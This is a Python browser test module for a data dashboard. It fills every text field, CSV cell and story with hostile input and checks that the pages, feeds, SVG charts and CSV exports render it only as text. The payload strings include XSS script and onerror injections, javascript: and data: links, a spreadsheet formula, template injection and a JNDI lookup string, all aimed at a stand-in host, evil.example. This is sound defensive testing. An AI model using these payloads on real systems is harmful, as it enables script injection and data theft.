"""In a real browser, hostile and long text in every field: no script, no other host, nothing over the page, nothing too wide."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import urllib.request
from collections.abc import Iterator, Sequence
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from unittest.mock import patch
from urllib.parse import quote
from xml.etree import ElementTree as ET

import duckdb
import pytest
from playwright.sync_api import Browser

from dashboard.charts.catalogue import on_page
from dashboard.coded.importing import import_files
from dashboard.record.filters import Filters
from dashboard.store.build import build
from dashboard.store.config import ROOT, Settings
from dashboard.store.database import open_current
from dashboard.store.dictionary import read_tables
from dashboard.store.problems import DataError, Problem
from tests.browser.reading import TOO_WIDE, Watched, is_dashboard, moved, settled, views, with_mark
from tests.browser.serving import serve
from tests.unit.coded_files import gdelt, write

MARKUP = (
    '<script>window.__pwned=1</script><img src="http://evil.example/i.png" onerror="window.__pwned=1"> **bold** `code` :red[red] $x^2$ '
    "![i](http://evil.example/m.png) [x](javascript:window.__pwned=1) <style>@import 'http://evil.example/s.css'</style>"
)
# In turn: markup of all sorts, a word without an end, what programs take for a command, letters of other scripts.
POISON = (
    MARKUP,
    "Endless" * 300,
    '=HYPERLINK("http://evil.example")|{{7*7}}${jndi:ldap://evil.example}%s%n',
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 한반도를긴낱말로써서줄을바꾸지않음" * 2,
)
# A long word may be of use to nobody, but a drawing or a page that cannot be read is of less.
PLAIN = (
    "/r/ev-1994-10-talks", "/r/cl-essay-01", "/r/ac-prk", "/r/tr-armistice-1953",
    "/experts/ada-scholar", "/sources/doc-essay", "/eras/truce",
    "/cite/chart/events_timeline", "/cite/record/ev-1994-10-talks", "/changes",
)  # fmt: skip
SQL = quote('select title, summary, \'<img src=x onerror="window.__pwned=1">\' as "<b>[a](b).c" from record')
PAGES = (
    *views(), "/data", f"/data?sql={SQL}", "/data?sql=" + quote("select **bold** ![i](http://evil.example/m.png)"),
    "/source?doc=doc-essay", "/search?q=script",
    "/events?embed=true&chart=events_timeline", "/events?record=ev-1994-10-talks",
    "/stories", "/stories?id=tale", "/stories?id=tale&step=all",
    "/events?" + quote(MARKUP[:60]) + "=1&q=" + quote(MARKUP),
)  # fmt: skip
# What lies over the whole page and is none of ours would take every click.
OVER = """() => [...document.querySelectorAll('body *')].filter((found) => {
  const look = getComputedStyle(found), box = found.getBoundingClientRect()
  return look.position === 'fixed' && look.pointerEvents !== 'none' && look.visibility !== 'hidden'
    && box.width > innerWidth * 0.9 && box.height > innerHeight * 0.9 && !found.closest('[data-testid], [class*=st-key-], #root')
}).map((found) => found.outerHTML.slice(0, 200))"""

TOO_WIDE_PLAIN = "() => document.scrollingElement.scrollWidth > innerWidth ? ['too wide'] : []"
CHARTS = (
    "events_timeline",
    "events_kind_by_actor",
    "treaty_lifespans",
    "detentions_spans",
    "positions_over_time",
    "claims_by_verdict",
)


def poisoned(folder: Path, skipped: set[tuple[str, str]]) -> int:
    """Writes poison into every cell of every column but those skipped; how many were written."""
    written = 0
    for number, file in enumerate(sorted(folder.glob("*.csv"))):
        with file.open(encoding="utf-8", newline="") as opened:
            rows = list(csv.DictReader(opened))
        for row in rows:
            for at, name in enumerate(row):
                if row[name] and (file.name, name) not in skipped:
                    row[name] = f"{row[name]} {POISON[(number + at) % len(POISON)]}"
                    written += 1
        if rows:
            out = io.StringIO(newline="")
            writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
            file.write_text(out.getvalue(), encoding="utf-8", newline="")
    return written


def poisoned_story(file: Path) -> None:
    """Puts poison into every text of a story; what its parser takes for numbers and references is left out of it."""
    no_signs = [re.sub(r"[][{}<>]", "", one) for one in POISON]
    made, number = [], 0
    for line in file.read_text(encoding="utf-8").splitlines():
        named = re.match(r'(title|question|answer) = "', line)
        if named and line.endswith('"'):
            line = f"{line[:-1]} {json.dumps(POISON[number % len(POISON)], ensure_ascii=False)[1:]}"  # noqa: PLW2901
            number += 1
        elif line.startswith('text = "') and line.endswith('"') and not line.endswith('"""'):
            line = f"{line[:-1]} {json.dumps(no_signs[0], ensure_ascii=False)[1:]}"  # noqa: PLW2901
        elif line.startswith(("such events", "{events:Words}")):
            line = f"{line} " + " ".join(json.dumps(one, ensure_ascii=False)[1:-1] for one in no_signs)  # noqa: PLW2901
        made.append(line)
    file.write_text("\n".join(made) + "\n", encoding="utf-8", newline="\n")
    assert number >= 5


def hostile_events(folder: Path) -> Path:
    """An import of coded events whose texts are poison. Returns its folder."""
    links = (
        "javascript:window.__pwned=1",
        'https://evil.example/"><script>window.__pwned=1</script>',
        "https://evil.example/" + "Endless" * 300,
        "data:text/html,<script>window.__pwned=1</script>",
        "not an address \u202e <img src=x onerror=window.__pwned=1>",
    )
    lines = [
        gdelt(
            number,
            f"2017{1 + number % 12:02d}03",
            SOURCEURL=links[number % len(links)],
            ActionGeo_FullName=POISON[number % len(POISON)],
            Actor1Code=f"USA{MARKUP[:40]}" if number % 3 == 0 else "USAGOV",
        )
        for number in range(60)
    ]
    import_files("gdelt1", [write(folder, "hostile.export.CSV", *lines)], folder / "coded")
    return folder / "coded"


def not_free() -> set[tuple[str, str]]:
    """File and name of each column whose cells have a form, or are named by others."""
    # A check compares the first and names another column; by the second coded events find their actors.
    skipped = {("cameo.csv", "root_code"), ("actors.csv", "iso3")}
    with duckdb.connect() as con:
        for file in sorted((ROOT / "sql" / "schema").glob("*.sql")):
            con.execute(file.read_text(encoding="utf-8"))
        for table in read_tables(con):
            named = {name for key in table.keys for name in key} | {name for name, *_ in table.foreign}
            for column in table.columns:
                is_free = column.type == "VARCHAR" and not column.tag and not column.references
                if not is_free or column.name in named or column.name.endswith("_id"):
                    skipped.add((table.file, column.name))
    return skipped


def faults_of(settings: Settings) -> Sequence[Problem]:
    """What keeps the data from being built; nothing where they are built."""
    try:
        build(settings)
    except DataError as error:
        return error.problems
    return []


@pytest.fixture(scope="module")
def hostile(tiny_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """A build in which every field that takes any text is poisoned: those that do not are found by their faults."""
    folder = tmp_path_factory.mktemp("hostile")
    made = replace(tiny_settings, data=folder / "data", out=folder / "build", coded=hostile_events(folder))
    skipped = not_free()
    for _ in range(12):
        shutil.rmtree(folder / "data", ignore_errors=True)
        shutil.copytree(tiny_settings.data, folder / "data")
        written = poisoned(folder / "data", skipped)
        for story in (folder / "data" / "stories").glob("*.toml"):
            poisoned_story(story)
        problems = faults_of(made)
        if not problems:
            assert written > 150
            return made
        assert not [problem for problem in problems if problem.file.startswith("stories")], problems[:3]
        found = {(problem.file, name.strip()) for problem in problems for name in problem.column.split(",")}
        assert found - skipped, problems[:3]
        skipped |= found
    raise AssertionError(f"no build: {sorted(skipped)}")


@pytest.fixture(scope="module")
def site(hostile: Settings) -> Iterator[str]:
    with patch.dict(os.environ, {"PANMUNJOM_CODED": str(hostile.coded)}), serve(hostile.out, hostile.data) as server:
        yield server.address


@pytest.fixture(scope="module")
def coded_pages(hostile: Settings) -> list[str]:
    """Addresses that open coded events behind marks of each chart of them."""
    database, found = open_current(hostile), []
    for entry in on_page("coded"):
        marks = database.frame("charts", entry.id, Filters().parameters())["mark"]
        found += [with_mark(entry, mark) for mark in marks[:2]]
    assert len(found) >= 2
    return found


class Head(HTMLParser):
    """Names of the elements of a page with what they lead to."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def fetched(site: str, path: str) -> bytes:
    """What the server answers."""
    with urllib.request.urlopen(f"{site}{path}", timeout=60) as answer:  # noqa: S310
        return bytes(answer.read())


@pytest.mark.parametrize("width", [1280, 390])
def test_hostile_text_in_every_field_is_text_and_nothing_else(
    site: str, coded_pages: list[str], browser: Browser, width: int
) -> None:
    context = browser.new_context(base_url=site, viewport={"width": width, "height": 900})
    context.set_default_timeout(30_000)
    faults: list[str] = []
    # In the same tab the browser reads its scripts once.
    watched = Watched(context.new_page(), site)
    page = watched.page
    drawn = (*PAGES, *coded_pages)
    for path in (*drawn, *PLAIN) if width > 600 else (*drawn[::4], *PLAIN[::2]):
        if path not in drawn or "embed" in path:
            page.goto(path)
            page.wait_for_load_state()
        elif is_dashboard(page) and "embed" not in page.url:
            moved(page, path)
        else:
            page.goto(path)
            settled(page)
        found = [*watched.complaints(), *page.evaluate(OVER)]
        watched.errors.clear()
        watched.addresses.clear()
        found += ["a script ran"] if page.evaluate("() => window.__pwned !== undefined") else []
        page.wait_for_timeout(200)
        found += page.evaluate(TOO_WIDE if path in drawn else TOO_WIDE_PLAIN)
        faults += [f"{path}: {fault}" for fault in found]
    context.close()
    assert faults == []


def test_no_file_or_feed_of_hostile_text_breaks_its_form(site: str, hostile: Settings) -> None:
    def content(path: str) -> bytes:
        return fetched(site, path)

    feed = ET.fromstring(content("/feed.atom"))  # noqa: S314
    assert {one.get("href", "").partition(":")[0] for one in feed.iter() if one.get("href")} == {"http"}
    # Text that a reader of feeds would take for markup is told to be text.
    assert {one.get("type", "text") for one in feed.iter() if (one.text or "").find("<script") >= 0} <= {"text"}
    ET.fromstring(content("/sitemap.xml"))  # noqa: S314
    for line in content("/records.jsonl").splitlines():
        json.loads(line)
    for chart in CHARTS:
        drawing = content(f"/charts/{chart}.svg")
        root = ET.fromstring(drawing)  # noqa: S314
        assert not [
            one.tag for one in root.iter() if one.tag.rpartition("}")[2] in ("script", "image", "foreignObject", "a")
        ]
        rows = list(csv.reader(io.StringIO(content(f"/charts/{chart}.csv").decode(), newline="")))
        assert not [cell for row in rows for cell in row if cell[:1] in "=+@" and cell]
    assert open_current(hostile).rows("pages", "health")


def test_what_shares_a_link_is_shown_hostile_text_as_text(site: str) -> None:
    for path in ("/r/ev-1994-10-talks", "/stories?id=tale", "/events?record=ev-1994-10-talks", "/sources/doc-essay"):
        head = Head()
        head.feed(fetched(site, path).decode())
        assert not [one for one in head.found if "evil.example" in str(one[1].get("src") or one[1].get("href"))], path
        assert not [one for one in head.found if any(name.startswith("on") for name in one[1])], path
        scripts = [one for one in head.found if one[0] == "script" and not one[1].get("src")]
        assert not [one for one in scripts if (one[1].get("type") or "") not in ("", "module", "application/ld+json")]
        assert [one for one in head.found if one[0] == "meta" and one[1].get("property") == "og:title"], path
    for path in ("/previews/stories.png?id=tale", "/previews/events.png", "/r/ev-1994-10-talks.png"):
        assert fetched(site, path)[:8] == b"\x89PNG\r\n\x1a\n"
